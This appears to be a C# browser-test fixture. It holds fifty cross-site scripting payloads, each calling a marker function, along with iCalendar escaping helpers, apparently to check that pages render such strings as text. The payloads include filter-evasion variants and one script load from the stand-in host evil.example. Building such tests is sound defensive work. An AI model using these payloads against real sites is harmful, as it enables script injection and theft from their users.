using System.Globalization;

namespace PeerWeb.Tests.Browser.Scripts;

/// <summary>Fifty texts that run a script where a page takes them for something else than text. Each calls <c>pwned</c> with its number.</summary>
internal static class ScriptPayloads
{
    private static readonly string[] Forms =
    [
        "<script>pwned(#)</script>",
        "<SCRIPT SRC=//evil.example/#.js></SCRIPT>",
        "</script><script>pwned(#)</script>",
        "<scr<script>ipt>pwned(#)</scr</script>ipt>",
        "<script/x>pwned(#)</script>",
        "<script type=module>pwned(#)</script>",
        "<img src=x onerror=pwned(#)>",
        "<IMG SRC=x OnErRoR=\"pwned(#)\">",
        "<img src=x onerror\n=\npwned(#)>",
        "<img src=javascript:pwned(#)>",
        "<img/src=x/onerror=pwned(#)//",
        "<img src=x:x onerror=pwned`#`>",
        "<svg onload=pwned(#)>",
        "<svg/onload=pwned(#)//",
        "<svg><script>pwned(#)</script></svg>",
        "<svg><animate onbegin=pwned(#) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:pwned(#)><text y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned(#)</script></svg>#x\"/></svg>",
        "<math><mi xlink:href=\"javascript:pwned(#)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned(#)>",
        "<iframe src=javascript:pwned(#)></iframe>",
        "<iframe srcdoc=\"<script>parent.pwned(#)</script>\"></iframe>",
        "<object data=javascript:pwned(#)></object>",
        "<embed src=javascript:pwned(#)>",
        "<body onload=pwned(#)>",
        "<details open ontoggle=pwned(#)>x</details>",
        "<video><source onerror=pwned(#)></video>",
        "<audio src=x onerror=pwned(#)>",
        "<input autofocus onfocus=pwned(#)>",
        "<select autofocus onfocus=pwned(#)>",
        "<textarea autofocus onfocus=pwned(#)>",
        "</textarea><script>pwned(#)</script>",
        "</title><script>pwned(#)</script>",
        "</style><script>pwned(#)</script>",
        "--><script>pwned(#)</script>",
        "<!--><script>pwned(#)</script>-->",
        "]]><script>pwned(#)</script>",
        "\"><script>pwned(#)</script>",
        "'><img src=x onerror=pwned(#)>",
        "\" autofocus onfocus=pwned(#) x=\"",
        "' onmouseover=pwned(#) x='",
        "` onmouseover=pwned(#) x=`",
        "\" style=\"animation-name:boot\" onanimationstart=\"pwned(#)",
        "javascript:pwned(#)",
        "JaVaScRiPt:pwned(#)//http://x.example",
        "java\tscript:pwned(#)",
        "data:text/html,<script>pwned(#)</script>",
        "http://x.example/\"onmouseover=\"pwned(#)",
        "&lt;script&gt;pwned(#)&lt;/script&gt; &#60;img src=x onerror=pwned(#)&#62;",
        "{{constructor.constructor('pwned(#)')()}}${pwned(#)}@(pwned(#))",
    ];

    /// <summary>On one line, as titles and names are.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Forms.Select((form, number) => form.Replace("#", (number + 1).ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal).Replace('\n', ' ').Replace('\t', ' '))];

    /// <summary>The value of a text property.</summary>
    /// <remarks>RFC 5545 3.3.11.</remarks>
    public static string Text(string value) => value
        .Replace("\\", "\\\\", StringComparison.Ordinal).Replace(";", "\\;", StringComparison.Ordinal).Replace(",", "\\,", StringComparison.Ordinal).Replace("\n", "\\n", StringComparison.Ordinal);

    /// <summary>The value of a parameter.</summary>
    /// <remarks>RFC 6868 3.1.</remarks>
    public static string Quoted(string value) => $"\"{value.Replace("^", "^^", StringComparison.Ordinal).Replace("\"", "^'", StringComparison.Ordinal)}\"";
}
